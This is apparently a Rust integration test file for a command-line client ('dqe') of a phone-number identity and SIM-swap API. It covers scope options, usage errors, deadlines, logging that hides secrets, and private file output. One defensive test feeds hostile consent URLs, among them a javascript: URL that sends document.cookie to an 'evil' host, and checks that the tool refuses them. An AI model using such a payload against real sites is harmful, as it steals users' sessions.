        assert_eq!(o.status.code(), Some(0), "{extra:?}: {err}");
        let v: serde_json::Value = serde_json::from_str(&out)
            .unwrap_or_else(|e| panic!("{extra:?}: not JSON ({e}): {out}"));
        check(&v);
        if let Some(scores) = v.get("matching") {
            assert!(scores.as_object().unwrap().values().any(is_score), "{v}");
        }
    }

    // `initiate` prints a one-step result at once, with no flow to retrieve.
    let o = dqe(
        Some(url),
        &[
            "initiate",
            "--number",
            "0612345678",
            "--name",
            "ACME",
            "--scope",
            "simswap",
            "--period",
            "24",
        ],
    );
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(0), "{err}");
    assert!(out.contains("swapped: "), "{out}");
    assert!(!out.contains("flow: "), "{out}");
    assert!(!err.contains("dqe retrieve"), "{err}");
}

#[test]
fn demo_runs_any_scope() {
    let o = dqe(None, &["demo", "--scope", "simswap", "--period", "24"]);
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(0), "{err}");
    assert!(out.contains("swapped: "), "{out}");
    assert!(!out.contains("send the customer to"), "{out}");

    // A one-step scope with one that needs consent: step 1's result, then step 2's.
    let o = dqe(
        None,
        &["demo", "--scope", "simswap,numVerify", "--period", "24"],
    );
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(0), "{err}");
    let (step_1, step_2) = out
        .split_once("send the customer to")
        .unwrap_or_else(|| panic!("no consent: {out}"));
    assert!(step_1.contains("swapped: "), "{out}");
    assert!(step_2.contains("numVerify: "), "{out}");

    // With --json: step 1's reply (the one-step result) and step 2's, each a JSON document on
    // standard output; the consent URL on standard error.
    let o = dqe(
        None,
        &[
            "--json",
            "demo",
            "--scope",
            "simswap,numVerify",
            "--period",
            "24",
        ],
    );
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(0), "{err}");
    let docs: Vec<serde_json::Value> = serde_json::Deserializer::from_str(&out)
        .into_iter()
        .collect::<Result<_, _>>()
        .unwrap_or_else(|e| panic!("not JSON documents ({e}): {out}"));
    assert_eq!(docs.len(), 2, "{out}");
    assert!(docs[0].get("swapped").is_some(), "{out}");
    assert!(docs[1].get("numVerify").is_some(), "{out}");
    assert!(err.contains("send the customer to"), "{err}");
}

/// A plain `dqe flow` asks for the scope the spec marks as default, `formfilling`, and nothing
/// else: in step 1 and step 2 on the wire, and as the sandbox echoes it back.
#[tokio::test(flavor = "multi_thread")]
async fn without_scope_only_the_default_scope_is_asked_for() {
    assert_eq!(Scope::DEFAULT, [Scope::Formfilling]);
    let s = sandbox().await;
    let url = s.url().to_owned();
    tokio::task::spawn_blocking(move || {
        let o = dqe(
            Some(&url),
            &[
                "--json",
                "flow",
                "--number",
                "0612345678",
                "--name",
                "ACME",
                "--wait",
                "20",
            ],
        );
        let (out, err) = text(&o);
        assert_eq!(o.status.code(), Some(0), "{err}");
        let v: serde_json::Value = serde_json::from_str(&out).unwrap();
        assert_eq!(v["scope"], "formfilling", "{v}");
        assert!(v["formfilling"].is_object(), "{v}");
        for other in Scope::INFO.iter().filter(|s| !s.default) {
            assert!(v.get(other.wire).is_none(), "{} in {v}", other.wire);
        }
    })
    .await
    .unwrap();

    // On the wire: step 1 and step 2 carry `scope=formfilling`, and step 1 the default mode.
    let consent = serde_json::json!({
        "status": "success", "operator": "Orange", "url": "https://consent.example/c"
    });
    let data = serde_json::json!({
        "status": "success", "scope": "formfilling", "formfilling": {"family_name": "Dupont"}
    });
    let stub = Stub::start(vec![token_reply(), json_reply(&consent), json_reply(&data)]);
    let o = hostile(
        &stub.url,
        &["flow", "--number", NUMBER, "--name", "ACME", "--wait", "5"],
    );
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(0), "{err}");
    assert!(out.contains("family_name: Dupont"), "{out}");
    assert_eq!(stub.requests(), 3);
    let scope = ("scope".to_owned(), "formfilling".to_owned());
    for n in [1, 2] {
        let form = stub.form(n);
        assert!(form.contains(&scope), "request {n}: {form:?}");
        assert_eq!(form.iter().filter(|(k, _)| k == "scope").count(), 1);
    }
    assert!(stub.form(1).contains(&("mode".to_owned(), "2".to_owned())));
    assert_clean(&o, false);
}

/// A one-step scope's answer is the result: printed at once, and no step 2 request is made.
/// The parameters its scope does not take are not sent, and `user_infos` goes with every key.
#[test]
fn a_one_step_scope_makes_no_step_2_request() {
    let pending = json_reply(&serde_json::json!({"status": "pending"}));

    // simswap: `swapped` as DQE sends it, a string.
    let simswap =
        serde_json::json!({"status": "success", "operator": "Orange", "swapped": "false"});
    for json in [false, true] {
        let stub = Stub::start(vec![token_reply(), json_reply(&simswap), pending.clone()]);
        let mut args = vec![
            "flow", "--number", NUMBER, "--name", "ACME", "--scope", "simswap", "--period", "24",
            "--wait", "5",
        ];
        if json {
            args.insert(0, "--json");
        }
        let o = hostile(&stub.url, &args);
        let (out, err) = text(&o);
        assert_eq!(o.status.code(), Some(0), "{err}");
        assert_eq!(stub.requests(), 2, "the token and step 1 only");
        if json {
            let v: serde_json::Value = serde_json::from_str(&out).unwrap();
            assert_eq!(v["swapped"], "false", "written back as it came: {v}");
        } else {
            assert!(out.contains("swapped: false"), "{out}");
            assert!(!out.contains("send the customer to"), "{out}");
        }
        let form = stub.form(1);
        assert!(
            form.contains(&("scope".to_owned(), "simswap".to_owned())),
            "{form:?}"
        );
        assert!(
            form.contains(&("period".to_owned(), "24".to_owned())),
            "{form:?}"
        );
        for left_out in ["mode", "code_name"] {
            assert!(form.iter().all(|(k, _)| k != left_out), "{form:?}");
        }
        assert_clean(&o, false);
    }

    // matching_notp: the scores as the whole reply, with no status key.
    let scores = serde_json::json!({
        "family_name": 1.0, "gender": "", "given_name": 0.5,
        "address": {"country": 1.0, "postal_code": 0.78}
    });
    let stub = Stub::start(vec![token_reply(), json_reply(&scores), pending]);
    let infos = infos_file("notp");
    let o = hostile(
        &stub.url,
        &[
            "flow",
            "--number",
            NUMBER,
            "--name",
            "ACME",
            "--scope",
            "matching_notp",
            "--user-infos",
            &infos,
            "--country",
            "FR",
            "--wait",
            "5",
        ],
    );
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(0), "{err}");
    assert_eq!(stub.requests(), 2, "the token and step 1 only");
    assert!(out.contains("family_name: 1.0"), "{out}");
    assert!(out.contains("given_name: 0.5"), "{out}");
    assert!(out.contains("postal_code: 0.78"), "{out}");
    let form = stub.form(1);
    assert!(
        form.contains(&("country".to_owned(), "FR".to_owned())),
        "{form:?}"
    );
    let (_, sent) = form
        .iter()
        .find(|(k, _)| k == "user_infos")
        .unwrap_or_else(|| panic!("no user_infos in {form:?}"));
    let sent: serde_json::Map<String, serde_json::Value> = serde_json::from_str(sent).unwrap();
    let keys = InitiateRequest::INFO
        .params
        .iter()
        .find_map(|p| match p.kind {
            ValueKind::Json(keys) => Some(keys),
            _ => None,
        })
        .unwrap();
    assert_eq!(sent.len(), keys.len(), "every key is sent: {sent:?}");
    assert_eq!(sent["lastname"], "Lefèvre");
    assert_eq!(sent["email"], "");
}

/// A scope's missing requirement, a value its parameter does not take, an unknown scope or an
/// unreadable `@FILE`: usage errors (exit 1, one line naming the option) before any request.
#[test]
fn bad_scope_parameters_are_usage_errors_before_any_request() {
    let big = temp_dir("big").join("big.json");
    std::fs::write(&big, vec![b' '; 64 * 1024 + 1]).unwrap();
    let big = format!("@{}", big.display());
    let missing = format!("@{}", temp_dir("missing").join("none.json").display());
    let cases: Vec<(Vec<&str>, &[&str])> = vec![
        (vec!["--scope", "simswap"], &["period", "simswap"]),
        (vec!["--scope", "matching"], &["user_infos", "matching"]),
        (
            vec!["--scope", "matching_notp"],
            &["user_infos", "matching_notp"],
        ),
        (
            vec!["--scope", "formfilling,simswap"],
            &["period", "simswap"],
        ),
        (
            vec!["--scope", "simswap", "--period", "soon"],
            &["--period"],
        ),
        (
            vec![
                "--scope",
                "matching",
                "--user-infos",
                "{\"nickname\": \"x\"}",
            ],
            &["--user-infos", "nickname"],
        ),
        (
            vec!["--scope", "matching", "--user-infos", "not json"],
            &["--user-infos", "JSON"],
        ),
        (
            vec!["--scope", "matching", "--user-infos", &big],
            &["--user-infos", "64 KiB"],
        ),
        (
            vec!["--scope", "matching", "--user-infos", &missing],
            &["--user-infos", "none.json"],
        ),
        (vec!["--scope", "nothing"], &["--scope", "nothing"]),
        (vec!["--scope", ","], &["--scope"]),
        (vec!["--mode", "9"], &["--mode"]),
    ];
    for command in ["flow", "initiate"] {
        for (extra, words) in &cases {
            let stub = Stub::start(vec![token_reply()]);
            let mut args = vec![command, "--number", NUMBER, "--name", "ACME"];
            args.extend(extra);
            let o = hostile(&stub.url, &args);
            let (_, err) = text(&o);
            assert_eq!(o.status.code(), Some(1), "{args:?}: {err}");
            assert_eq!(err.trim().lines().count(), 1, "{args:?}: {err}");
            for word in *words {
                assert!(err.contains(word), "{args:?}: no {word} in {err}");
            }
            assert_eq!(stub.requests(), 0, "{args:?}: a request was made");
            assert_clean(&o, false);
        }
    }
}

/// An option that none of the scopes asked for takes would not be sent: a usage error (exit 1,
/// one line naming the option, the scopes asked for and those that take it) before any request.
#[test]
fn an_option_no_scope_asked_for_takes_is_a_usage_error() {
    let infos = infos_file("not-taken");
    let cases: Vec<(Vec<&str>, &str)> = vec![
        (
            vec!["--scope", "formfilling", "--country", "FR"],
            "--country is not taken by the scopes asked for (formfilling): it goes with matching_notp",
        ),
        // The default scope, formfilling, does not take it either.
        (
            vec!["--country", "FR"],
            "--country is not taken by the scopes asked for (formfilling): it goes with matching_notp",
        ),
        (
            vec!["--scope", "numVerify", "--user-infos", &infos],
            "--user-infos is not taken by the scopes asked for (numVerify): it goes with matching or matching_notp",
        ),
        (
            vec!["--scope", "simswap", "--period", "24", "--mode", "2"],
            "--mode is not taken by the scopes asked for (simswap): it goes with billing, formfilling, matching or matching_notp",
        ),
        (
            vec!["--scope", "formfilling,numVerify", "--period", "24"],
            "--period is not taken by the scopes asked for (formfilling, numVerify): it goes with simswap",
        ),
    ];
    for command in ["flow", "initiate", "demo"] {
        for (extra, message) in &cases {
            let stub = Stub::start(vec![token_reply()]);
            let mut args = vec![command, "--number", NUMBER, "--name", "ACME"];
            args.extend(extra);
            let o = hostile(&stub.url, &args);
            let (_, err) = text(&o);
            assert_eq!(o.status.code(), Some(1), "{args:?}: {err}");
            assert_eq!(err.trim(), format!("dqe: {message}"), "{args:?}");
            assert_eq!(stub.requests(), 0, "{args:?}: a request was made");
            assert_clean(&o, false);
        }
    }
    // With a scope that takes it, the same option goes through.
    let o = dqe(
        None,
        &[
            "demo",
            "--scope",
            "formfilling,matching_notp",
            "--country",
            "FR",
            "--user-infos",
            &infos,
        ],
    );
    let (_, err) = text(&o);
    assert_eq!(o.status.code(), Some(0), "{err}");
}

/// `--help` of the commands that send step 1 lists every parameter the caller sets (by its wire
/// name) and every scope, with the default.
#[test]
fn help_lists_the_spec_parameters_and_scopes() {
    for command in ["flow", "initiate", "demo"] {
        let o = dqe(None, &[command, "--help"]);
        let (out, err) = text(&o);
        assert_eq!(o.status.code(), Some(0), "{err}");
        // Help is wrapped to the terminal's width: compare words, not lines.
        let out = out.split_whitespace().collect::<Vec<_>>().join(" ");
        for p in InitiateRequest::INFO
            .params
            .iter()
            .filter(|p| p.source == ParamSource::Caller)
        {
            let option = option(p.wire);
            assert!(out.contains(&option), "{command}: no {option} in\n{out}");
        }
        for s in Scope::INFO {
            assert!(out.contains(s.wire), "{command}: no {} in\n{out}", s.wire);
        }
        assert!(out.contains("[default: formfilling]"), "{out}");
    }
}

/// The README's command-line section documents every option of step 1 and gives an example
/// per scope, with that scope's required options: a parameter or a scope added to the spec
/// fails here until it is documented.
#[test]
fn the_readme_documents_every_option_and_scope() {
    // The workspace's README; the package has it beside its manifest (`readme` in Cargo.toml).
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let readme = std::fs::read_to_string(dir.join("README.md"))
        .or_else(|_| std::fs::read_to_string(dir.join("../README.md")))
        .expect("the README");
    let start = readme
        .find("## The `dqe` command line")
        .expect("the README's command-line section");
    let section = &readme[start..];
    let section = &section[..section[3..].find("\n## ").map_or(section.len(), |i| i + 3)];
    let params: Vec<_> = InitiateRequest::INFO
        .params
        .iter()
        .filter(|p| p.source == ParamSource::Caller)
        .collect();
    for p in &params {
        let option = format!("`{}`", option(p.wire));
        assert!(section.contains(&option), "no {option} in the README");
    }
    for s in Scope::INFO {
        let example = section
            .lines()
            .filter(|l| l.starts_with("dqe flow "))
            .find(|l| {
                let words: Vec<&str> = l.split_whitespace().collect();
                let asked = words.windows(2).any(|w| w == ["--scope", s.wire]);
                asked || (s.default && !words.contains(&"--scope"))
            })
            .unwrap_or_else(|| panic!("no example of the scope {} in the README", s.wire));
        for required in s.requires {
            let p = params.iter().find(|p| p.name == *required).unwrap();
            assert!(
                example.split_whitespace().any(|w| w == option(p.wire)),
                "the example of {} lacks {}: {example}",
                s.wire,
                option(p.wire)
            );
        }
    }
}

// ---------------------------------------------------------------------------------------------
// The consent URL, deadlines and logging.
// ---------------------------------------------------------------------------------------------

/// A consent URL that is not an operator's page is refused (exit 4, the rule it broke, never the
/// URL), and the flow is printed to poll: step 1 may have sent the SMS.
#[test]
fn a_consent_url_that_is_not_a_web_page_exits_4_without_being_shown() {
    for url in [
        "javascript:fetch('//evil/'+document.cookie)",
        "data:text/html,<script>evil()</script>",
        "/evil/relative",
    ] {
        let consent = serde_json::json!({"status": "success", "operator": "Orange", "url": url});
        let stub = Stub::start(vec![token_reply(), json_reply(&consent)]);
        let args = ["flow", "--number", NUMBER, "--name", "ACME", "--wait", "5"];
        let o = hostile(&stub.url, &args);
        let (out, err) = text(&o);
        assert_eq!(o.status.code(), Some(4), "{url}: {err}");
        assert_eq!(stub.requests(), 2, "{url}: the token, then step 1 once");
        assert!(err.contains("consent URL"), "{url}: {err}");
        assert!(err.contains("not sent again"), "{url}: {err}");
        assert!(
            !out.contains("evil") && !err.contains("evil"),
            "{out}\n{err}"
        );
        assert!(!out.contains("send the customer"), "{out}");
        assert!(out.starts_with("flow: "), "the flow to poll: {out}");
        assert_clean(&o, true);
    }
}

/// A server that answers a reply's head at once, then drips its body one byte every 2 s (for
/// at most two minutes), to each connection.
fn dripping_server() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            std::thread::spawn(move || {
                if read_request(&mut stream).is_err() {
                    return;
                }
                let head = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{";
                let mut ok = stream.write_all(head.as_bytes()).is_ok();
                for _ in 0..60 {
                    ok = ok && stream.write_all(b" ").and_then(|()| stream.flush()).is_ok();
                    if !ok {
                        return;
                    }
                    std::thread::sleep(Duration::from_secs(2));
                }
            });
        }
    });
    url
}

/// `--wait` is a deadline: a poll in flight ends with it, not with the request timeout (20 s).
#[test]
fn wait_ends_at_its_deadline_while_the_server_drips() {
    let url = dripping_server();
    let flow = flow_json(now_unix(), None);
    let started = Instant::now();
    let o = hostile(&url, &["retrieve", "--flow", &flow, "--wait", "3"]);
    let took = started.elapsed();
    let (_, err) = text(&o);
    assert_eq!(o.status.code(), Some(3), "{err}");
    assert!(err.contains("no final answer"), "{err}");
    // Not a timing claim: without the deadline the poll would last the 20 s request timeout.
    assert!(took < Duration::from_secs(15), "dqe waited {took:?}: {err}");
    assert_clean(&o, false);
}

/// The string values of a JSON document, at any depth, but those of `status` and `scope`
/// (words of the protocol) and those shorter than four characters.
fn values(v: &serde_json::Value, out: &mut Vec<String>) {
    match v {
        serde_json::Value::String(s) if s.chars().count() >= 4 => out.push(s.clone()),
        serde_json::Value::Array(items) => items.iter().for_each(|i| values(i, out)),
        serde_json::Value::Object(map) => {
            for (k, v) in map {
                if !["status", "scope", "scopes", "token_type"].contains(&k.as_str()) {
                    values(v, out);
                }
            }
        }
        _ => {}
    }
}

/// Every scope with `-vv` and `RUST_LOG=trace` against the sandbox: each request is on
/// stderr (its path), and none of the values sent (licence, secret, number, partner name,
/// user_infos) or received (token, consent URL, operator, identity values, scores) is.
#[tokio::test(flavor = "multi_thread")]
async fn verbose_logs_every_request_and_no_value() {
    let s = sandbox().await;
    let url = s.url().to_owned();
    tokio::task::spawn_blocking(move || {
        let infos = infos_file("verbose");
        let partner = "PartnerNameXyz";
        let sent = [
            DEFAULT_LICENCE,
            DEFAULT_CLIENT_SECRET,
            "0612345678",
            partner,
        ];
        let sent_infos = ["Lefèvre", "Zoé"];
        let run = |args: &[&str]| {
            let mut c = Command::new(env!("CARGO_BIN_EXE_dqe"));
            c.args(["--json", "-vv"])
                .args(args)
                .env("RUST_LOG", "trace")
                .env("DQE_SERVER", &url)
                .env("DQE_LICENCE", DEFAULT_LICENCE)
                .env("DQE_CLIENT_SECRET", DEFAULT_CLIENT_SECRET);
            let o = within(c, Duration::from_secs(60));
            let (out, err) = text(&o);
            assert_eq!(o.status.code(), Some(0), "{args:?}: {err}");
            let doc: serde_json::Value = serde_json::from_str(&out)
                .unwrap_or_else(|e| panic!("{args:?}: not JSON ({e}): {out}"));
            (doc, err)
        };
        let check = |doc: &serde_json::Value, err: &str, paths: &[&str], what: &str| {
            let mut received = Vec::new();
            values(doc, &mut received);
            for value in received
                .iter()
                .map(String::as_str)
                .chain(sent)
                .chain(sent_infos)
            {
                assert!(!err.contains(value), "{what}: `{value}` logged:\n{err}");
            }
            for path in paths {
                assert!(
                    err.contains(&format!("path=\"{path}\"")),
                    "{what}: no request to {path} logged:\n{err}"
                );
            }
        };
        let token = AccessTokenRequest::INFO.path;
        let step1 = InitiateRequest::INFO.path;
        let step2 = RetrieveRequest::INFO.path;
        for scope in Scope::INFO {
            let mut args = vec![
                "initiate".to_owned(),
                "--number".to_owned(),
                "0612345678".to_owned(),
                "--name".to_owned(),
                partner.to_owned(),
                "--scope".to_owned(),
                scope.wire.to_owned(),
            ];
            for required in scope.requires {
                let p = InitiateRequest::INFO
                    .params
                    .iter()
                    .find(|p| p.name == *required)
                    .unwrap();
                args.push(option(p.wire));
                args.push(match p.kind {
                    ValueKind::Integer => "24".to_owned(),
                    ValueKind::Json(_) => infos.clone(),
                    _ => "FR".to_owned(),
                });
            }
            let args: Vec<&str> = args.iter().map(String::as_str).collect();
            let (doc, err) = run(&args);
            let mut received = Vec::new();
            values(&doc, &mut received);
            assert!(
                !received.is_empty(),
                "{}: nothing to look for in {doc}",
                scope.wire
            );
            check(&doc, &err, &[token, step1], scope.wire);
            if scope.one_step {
                continue;
            }
            let flow = doc["flow"].to_string();
            let (data, err) = run(&["retrieve", "--flow", &flow, "--wait", "30"]);
            check(&data, &err, &[step2], scope.wire);
            // Step 2's output holds what was received: checked against step 2's log too.
            check(&doc, &err, &[], scope.wire);
        }
    })
    .await
    .unwrap();
}

/// Without `-v` nor `RUST_LOG`, nothing is logged; `-v` logs requests but not the schedule.
#[test]
fn logging_is_off_by_default_and_grows_with_v() {
    let quiet = dqe(None, &["demo"]);
    let (_, err) = text(&quiet);
    assert_eq!(quiet.status.code(), Some(0), "{err}");
    assert!(!err.contains("request"), "{err}");
    let one = dqe(None, &["-v", "demo"]);
    let (_, err) = text(&one);
    assert!(err.contains("INFO request"), "{err}");
    assert!(err.contains("step 2 pending: polling again"), "{err}");
    assert!(!err.contains("DEBUG"), "{err}");
    let two = dqe(None, &["-vv", "demo"]);
    let (out, err) = text(&two);
    assert!(err.contains("next poll scheduled"), "{err}");
    assert!(err.contains("token issued"), "{err}");
    assert!(
        !out.contains("INFO") && !out.contains("DEBUG"),
        "logs on stdout: {out}"
    );
}

/// `--out FILE`: the billing document written as bytes, readable by its owner alone; an existing
/// file refused without `--force` and replaced with it; a symbolic link never written through.
#[tokio::test(flavor = "multi_thread")]
async fn out_writes_the_document_privately_and_never_over_a_file_unasked() {
    let s = sandbox().await;
    let url = s.url().to_owned();
    tokio::task::spawn_blocking(move || {
        let dir = temp_dir("out");
        let file = dir.join("bill.pdf");
        let _ = std::fs::remove_file(&file);
        let path = file.to_str().unwrap().to_owned();
        let flow = |extra: &[&str]| {
            let mut args = vec![
                "flow",
                "--number",
                "0612345678",
                "--name",
                "ACME",
                "--scope",
                "billing",
                "--wait",
                "20",
            ];
            args.extend(extra);
            dqe(Some(&url), &args)
        };
        let o = flow(&["--out", &path]);
        let (out, err) = text(&o);
        assert_eq!(o.status.code(), Some(0), "{err}");
        assert!(out.contains("billing: <document: PDF, "), "{out}");
        assert!(err.contains("wrote `billing` (PDF, "), "{err}");
        let bytes = std::fs::read(&file).unwrap();
        assert!(bytes.starts_with(b"%PDF-"), "not a PDF");
        assert!(
            bytes.trim_ascii_end().ends_with(b"%%EOF"),
            "not a whole PDF"
        );
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = std::fs::metadata(&file).unwrap().permissions().mode() & 0o777;
            assert_eq!(mode, 0o600, "{mode:o}");
        }

        // An existing file: refused, left as it was.
        std::fs::write(&file, b"mine").unwrap();
        let o = flow(&["--out", &path]);
        let (_, err) = text(&o);
        assert_eq!(o.status.code(), Some(1), "{err}");
        assert!(err.contains("it exists: give --force"), "{err}");
        assert_eq!(std::fs::read(&file).unwrap(), b"mine");

        // --force replaces it, and makes it private.
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
        }
        let o = flow(&["--out", &path, "--force"]);
        assert_eq!(o.status.code(), Some(0), "{}", text(&o).1);
        assert!(std::fs::read(&file).unwrap().starts_with(b"%PDF-"));
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = std::fs::metadata(&file).unwrap().permissions().mode() & 0o777;
            assert_eq!(mode, 0o600, "{mode:o}");
            // A symbolic link is never written through, even with --force.
            let target = dir.join("target.txt");
            std::fs::write(&target, b"keep").unwrap();
            let link = dir.join("link.pdf");
            let _ = std::fs::remove_file(&link);
            std::os::unix::fs::symlink(&target, &link).unwrap();
            let o = flow(&["--out", link.to_str().unwrap(), "--force"]);
            let (_, err) = text(&o);
            assert_eq!(o.status.code(), Some(1), "{err}");
            assert!(err.contains("symbolic link"), "{err}");
            assert_eq!(std::fs::read(&target).unwrap(), b"keep");
        }

        // A result with no document writes nothing and says so.
        let other = dir.join("none.pdf");
        let _ = std::fs::remove_file(&other);
        let o = dqe(
            Some(&url),
            &[
                "flow",
                "--number",
                "0612345678",
                "--name",
                "ACME",
                "--wait",
                "20",
                "--out",
                other.to_str().unwrap(),
            ],
        );
        let (_, err) = text(&o);
        assert_eq!(o.status.code(), Some(1), "{err}");
        assert!(err.contains("no document"), "{err}");
        assert!(!other.exists());
        // --out with a command that prints no result is a usage error.
        let o = dqe(Some(&url), &["token", "--out", other.to_str().unwrap()]);
        assert_eq!(o.status.code(), Some(1));
    })
    .await
    .unwrap();
}
